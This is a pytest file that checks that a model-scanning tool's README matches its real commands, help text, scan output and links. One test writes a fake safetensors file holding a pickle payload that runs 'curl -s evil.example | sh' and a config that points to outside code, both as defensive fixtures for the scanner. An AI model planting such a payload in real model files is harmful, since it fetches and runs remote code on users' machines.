"""The README says what is true."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

Assay = Callable[..., "subprocess.CompletedProcess[str]"]

ROOT = Path(__file__).parents[1]
README = (ROOT / "README.md").read_text()
BLOCKS = re.findall(r"^```\w*\n(.*?)^```", README, re.MULTILINE | re.DOTALL)
PAGES = [ROOT / "README.md", ROOT / "CONTRIBUTING.md", *sorted((ROOT / "docs").rglob("*.md"))]


def test_the_first_two_blocks_are_one_command_each() -> None:
    """Set-up and main job, set-up and tests."""
    assert BLOCKS[0].splitlines() == ["python3 dev.py example"]
    assert BLOCKS[1].splitlines() == ["python3 dev.py test"]
    assert BLOCKS[1].strip() in (ROOT / ".ci" / "run").read_text()


def test_the_help_text_is_the_programs_own(tmp_path: Path, assay: Assay) -> None:
    """Copied by hand once, held to it for ever."""
    (block,) = [block for block in BLOCKS if block.startswith("$ assay --help")]
    assert block.partition("\n")[2].strip() == assay(tmp_path, "--help").stdout.strip()


def test_the_scan_is_what_a_scan_prints(tmp_path: Path, assay: Assay) -> None:
    """Two bad files and a harmless one; of the remedies the README shows that there are some."""
    folder = tmp_path / "models"
    folder.mkdir()
    (folder / "README.md").write_text("# A model\n")
    (folder / "config.json").write_text('{"auto_map": {"AutoModel": "someone/else--modeling.Model"}}\n')
    (folder / "weights.safetensors").write_bytes(b"cos\nsystem\n(S'curl -s evil.example | sh'\ntR.")
    (block,) = [block for block in BLOCKS if block.startswith("$ assay scan models\n")]
    shown, _, _ = block.partition("\n$ ")
    head, _, tail = shown.partition("  ...\n")
    printed = assay(tmp_path, "scan", "models", "--no-cache", COLUMNS="100").stdout
    assert printed.startswith(head.removeprefix("$ assay scan models\n"))
    assert printed.strip().endswith(tail.strip())


@pytest.mark.parametrize("page", PAGES, ids=lambda page: str(page.relative_to(ROOT)))
def test_links_lead_somewhere(page: Path) -> None:
    """Every relative link on every page."""
    for target in re.findall(r"\]\((?!https?:|#)([^)#]+)", page.read_text()):
        assert (page.parent / target).exists(), target
